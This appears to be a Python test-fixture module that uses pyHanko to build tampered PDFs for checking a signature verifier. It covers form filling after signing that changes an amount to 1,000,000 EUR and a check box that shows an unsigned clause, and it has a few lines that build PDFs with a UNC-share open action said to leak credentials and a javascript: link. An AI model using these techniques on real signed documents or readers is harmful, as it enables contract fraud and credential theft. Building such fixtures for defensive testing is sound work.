"""Attacks on signed documents, built at run time with pyHanko's writer (no binary fixtures).

Each function takes the bytes of a PDF and returns the bytes an attacker would hand over.
"""

from __future__ import annotations

import io

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import PdfFileWriter
from pyhanko.sign import signers

from . import _documents as docs

AMOUNT_FIELD = "montant"
CLAUSE_FIELD = "clause"


Writer = PdfFileWriter | IncrementalPdfFileWriter


def _appearance(writer: Writer, text: str, box: tuple[int, int]) -> generic.IndirectObject:
    """A form XObject drawing `text` (Helvetica), as a filled text field shows it."""
    font = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Helvetica"),
        }
    )
    content = f"BT /Helv 12 Tf 2 6 Td ({text}) Tj ET".encode("latin-1")
    stream = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, *box)]),
            pdf_name("/Resources"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/Helv"): writer.add_object(font)})}
            ),
        },
        stream_data=content,
    )
    return writer.add_object(stream)


def _rect(x: int, y: int, w: int, h: int) -> generic.ArrayObject:
    return generic.ArrayObject([generic.NumberObject(v) for v in (x, y, x + w, y + h)])


def with_form_fields(pdf: bytes) -> bytes:
    """An uploaded text's own AcroForm: a text field « montant » showing "1 000 EUR" and an
    unticked check box « clause » whose ticked appearance shows a new clause."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page_ref = w.root["/Pages"]["/Kids"][0]
    page = page_ref.get_object()
    amount = generic.DictionaryObject(
        {
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): pdf_string(AMOUNT_FIELD),
            pdf_name("/V"): pdf_string("1 000 EUR"),
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/Rect"): _rect(72, 600, 200, 20),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/DA"): pdf_string("/Helv 12 Tf 0 g"),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): _appearance(w, "1 000 EUR", (200, 20))}),
        }
    )
    off = _appearance(w, " ", (400, 20))
    on = _appearance(w, "Clause 12 : la commune verse 1 000 000 EUR a la CAF.", (400, 20))
    clause = generic.DictionaryObject(
        {
            pdf_name("/FT"): pdf_name("/Btn"),
            pdf_name("/T"): pdf_string(CLAUSE_FIELD),
            pdf_name("/V"): pdf_name("/Off"),
            pdf_name("/AS"): pdf_name("/Off"),
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/Rect"): _rect(72, 560, 400, 20),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/AP"): generic.DictionaryObject(
                {pdf_name("/N"): generic.DictionaryObject({pdf_name("/Yes"): on, pdf_name("/Off"): off})}
            ),
        }
    )
    refs = [w.add_object(amount), w.add_object(clause)]
    page[pdf_name("/Annots")] = generic.ArrayObject(refs)
    w.update_container(page)
    w.root[pdf_name("/AcroForm")] = generic.DictionaryObject({pdf_name("/Fields"): generic.ArrayObject(refs)})
    w.update_root()
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _field(w: IncrementalPdfFileWriter, name: str) -> generic.DictionaryObject:
    for ref in w.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if str(field.get("/T")) == name:
            return field  # type: ignore[no-any-return]
    raise KeyError(name)


def _written(w: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def fill_amount(pdf: bytes, text: str = "1 000 000 EUR") -> bytes:
    """Form filling after the signatures: the amount's value and appearance now say `text`."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    field = _field(w, AMOUNT_FIELD)
    field[pdf_name("/V")] = pdf_string(text)
    field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): _appearance(w, text, (200, 20))})
    w.update_container(field)
    return _written(w)


def tick_clause(pdf: bytes) -> bytes:
    """Tick the check box: its 'on' appearance shows a clause nobody signed."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    field = _field(w, CLAUSE_FIELD)
    field[pdf_name("/V")] = pdf_name("/Yes")
    field[pdf_name("/AS")] = pdf_name("/Yes")
    w.update_container(field)
    return _written(w)


def form_document(pki: docs.TestPki, signatures: int = 2) -> bytes:
    """A certified document with its own form fields and `signatures` approval signatures."""
    pdf = docs.add_fields(with_form_fields(docs.blank_pdf()), signatures)
    pdf = docs.sign(pdf, pki, pki.platform, "Plateforme", certify=True)
    for i in range(signatures):
        pdf = docs.sign(pdf, pki, pki.signers[i], docs.field_name(i))
    return pdf


def timestamp_only(pki: docs.TestPki) -> bytes:
    """A PDF with no signature at all, only a document timestamp (anyone can get one)."""
    out = signers.PdfTimeStamper(docs.timestamper(pki), field_name="Horodatage").timestamp_pdf(
        IncrementalPdfFileWriter(io.BytesIO(docs.blank_pdf())), "sha256"
    )
    return bytes(out.getvalue())


def flip_byte_in_page_text(pdf: bytes) -> bytes:
    """Flip one byte of the page's text (inside every signed range): still a readable PDF."""
    at = pdf.index(b"Convention Territoriale") + 3
    return pdf[:at] + bytes([pdf[at] ^ 0x20]) + pdf[at + 1 :]


def info_title(pdf: bytes) -> bytes:
    """An unsigned update after the last signature: a new /Info title."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    info = generic.DictionaryObject({pdf_name("/Title"): pdf_string("Titre changé")})
    w.trailer[pdf_name("/Info")] = w.add_object(info)
    return _written(w)


def trailing_bytes(pdf: bytes) -> bytes:
    """Bytes after the last %%EOF."""
    return pdf + b"\n% appended after signing\n"


def field_names(pdf: bytes) -> list[str]:
    """Every terminal field name of the document's AcroForm."""
    reader = PdfFileReader(io.BytesIO(pdf))
    form = reader.root.get("/AcroForm")
    return [] if form is None else [str(f.get_object()["/T"]) for f in form["/Fields"]]


def unc_open_action() -> bytes:
    """Opening the document fetches a file from a Windows share (\\\\host\\share): leaks credentials."""
    from tests.unit.pdf.corpus import bad_files

    action = b"/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) /D [0 /Fit] >> "
    return bad_files.simple_pdf(catalog_extra=action)


def javascript_link() -> bytes:
    """A link whose address is `javascript:`."""
    from tests.unit.pdf.corpus import bad_files

    action = b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"
    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A %s >>] " % action
    return bad_files.simple_pdf(page_extra=link)
